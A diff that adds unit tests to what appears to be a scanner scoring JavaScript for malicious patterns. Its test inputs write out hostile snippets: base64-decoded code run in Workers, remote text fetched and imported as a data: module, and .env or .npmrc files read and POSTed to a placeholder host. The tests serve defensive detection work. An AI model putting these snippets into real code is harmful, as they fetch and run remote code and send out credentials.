@@ -110,6 +110,30 @@ TEST(FlowEvasions, DecodedCodeTakesAWayRound) {
     EXPECT_EQ(heaviest("show(new TextDecoder().decode(new Uint8Array([97, 108, 101, 114, 116, 40, 41])))", "S04"), -1);
 }
 
+TEST(FlowEvasions, AWorkerOfAPageIsNoThread) {
+    const std::string made = "new Worker(URL.createObjectURL(new Blob([x])))";
+    EXPECT_EQ(heaviest("const x = atob(data);\n" + made, "S04"), 1);
+    EXPECT_EQ(heaviest("const x = text;\n" + made, "S04"), -1);
+    EXPECT_EQ(heaviest("fetch('https://h.invalid').then((r) => r.text()).then((x) => " + made + ")", "S08"), 1);
+    EXPECT_EQ(heaviest("const { Worker } = require('worker_threads');\nnew Worker(atob(data), { eval: true })", "S04"),
+              4);
+}
+
+TEST(FlowEvasions, AnImportOfWhatIsDownloadedNamesAModule) {
+    const std::string get = "fetch('https://h.invalid').then((r) => r.text()).then((x) => import(";
+    EXPECT_EQ(heaviest(get + "x))", "S08"), 1.5);
+    EXPECT_EQ(heaviest(get + "'data:text/javascript,' + x))", "S08"), 4);
+    EXPECT_EQ(heaviest(get + "`data:text/javascript,${x}`))", "S08"), 4);
+    EXPECT_EQ(heaviest(get + "'./' + lang))", "S08"), -1);
+}
+
+TEST(FlowEvasions, SettingsOfTheProjectWeighLessUntilTheyAreSent) {
+    const std::string open = "const x = require('fs').readFileSync('.env', 'utf8');\n";
+    EXPECT_EQ(heaviest(open, "S02"), 1);
+    EXPECT_EQ(heaviest("require('fs').readFileSync(home + '/.npmrc')", "S02"), 4) << "what the table gives";
+    EXPECT_EQ(heaviest(open + "fetch('https://h.invalid', { method: 'POST', body: x })", "S03"), 4);
+}
+
 TEST(FlowEvasions, AnswersOfFailuresAndNames) {
     check_ways(
         {
